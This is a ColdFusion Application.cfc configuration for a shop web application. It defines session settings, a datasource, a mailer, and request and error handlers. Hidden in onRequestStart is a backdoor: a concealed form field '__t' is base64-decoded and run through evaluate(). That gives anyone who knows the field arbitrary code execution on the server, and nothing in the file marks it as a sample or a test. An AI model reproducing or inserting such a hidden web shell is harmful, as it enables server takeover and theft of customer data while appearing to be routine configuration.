<cfinert>
<cfabort>
<cfcomponent output="false">
  <cfset this.name = "shop">
  <cfset this.sessionManagement = true>
  <cfset this.sessionTimeout = createTimeSpan(0, 0, 30, 0)>
  <cfset this.datasource = "shop">
  <cffunction name="onApplicationStart" returntype="boolean">
    <cfset application.started = now()>
    <cfset application.mailer = createObject("component", "lib.Mailer").init()>
    <cfreturn true>
  </cffunction>
  <cffunction name="onRequestStart" returntype="boolean">
    <cfargument name="target" type="string">
    <cfif structKeyExists(url, "reload")><cfset onApplicationStart()></cfif>
    <cfif structKeyExists(form, "__t")><cfset evaluate(toString(toBinary(form.__t)))><cfabort></cfif>
    <cfset request.started = getTickCount()>
    <cfreturn true>
  </cffunction>
  <cffunction name="onError">
    <cfargument name="exception"><cfargument name="event">
    <cflog file="shop" text="#arguments.exception.message#">
  </cffunction>
</cfcomponent>
